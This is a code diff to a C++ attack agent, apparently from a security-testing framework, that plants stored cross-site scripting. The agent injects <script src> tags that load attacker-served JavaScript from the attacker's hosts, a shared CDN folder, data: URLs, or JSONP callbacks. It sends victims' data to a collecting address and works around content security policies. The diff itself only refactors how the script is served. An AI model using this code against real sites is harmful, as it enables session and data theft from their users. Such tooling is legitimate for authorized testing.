@@ -1,6 +1,6 @@
 // xss-remote-script: an injected script that is not in the page but loaded: from the attacker's
-// host, from his folder on a CDN that a policy may trust as a whole, from a data: address, and from
-// the app itself where an answer can be made to be script: a JSONP callback, an upload
+// hosts, from his folder on a CDN that a policy may trust as a whole, from a data: address, and
+// from the app itself where an answer can be made to be script: a JSONP callback, an upload
 // (https://csp-evaluator.withgoogle.com knows the same bypasses).
 #include "core/attack/every_agent.h"
 #include "core/attack/page_script.h"
@@ -20,7 +20,7 @@ class XssRemoteScript final : public Agent {
         std::string const collecting = collecting_address(*evil);
         StoredText text(target);
         std::vector<std::string> scripts;
-        for (std::string const& address : addresses(target, *evil, script_for(target, collecting)))
+        for (std::string const& address : addresses(target, script_for(target, collecting)))
             scripts.push_back("<script src=" + in_quotes(address) + "></script>");
         text.leave_all(scripts);
         victim_reads_and_loot_is_used(target);
@@ -36,19 +36,13 @@ class XssRemoteScript final : public Agent {
     }
 
     // Of the script, wherever it can be made to lie.
-    static std::vector<std::string> addresses(Target& target, OwnHost& evil,
-                                              std::string const& script) {
+    static std::vector<std::string> addresses(Target& target, std::string const& script) {
         http::Response const file{
             .status = 200,
             .headers = {{"content-type", "text/javascript"}, {"access-control-allow-origin", "*"}},
             .body = script};
-        evil.answer(evil.folder() + "x.js", file);
-        std::vector<std::string> all{address_on(evil, "x.js"),
-                                     "data:text/javascript," + http::percent_encode(script)};
-        if (OwnHost* shared = shared_host(target)) {
-            shared->answer(shared->folder() + "x.js", file);
-            all.push_back(address_on(*shared, "x.js"));
-        }
+        std::vector<std::string> all = serve_everywhere(target, "x.js", file);
+        all.push_back("data:text/javascript," + http::percent_encode(script));
         for (Endpoint const& each : target.surface().endpoints)
             if (std::string const address = callback_of(each, script); !address.empty())
                 all.push_back(address);
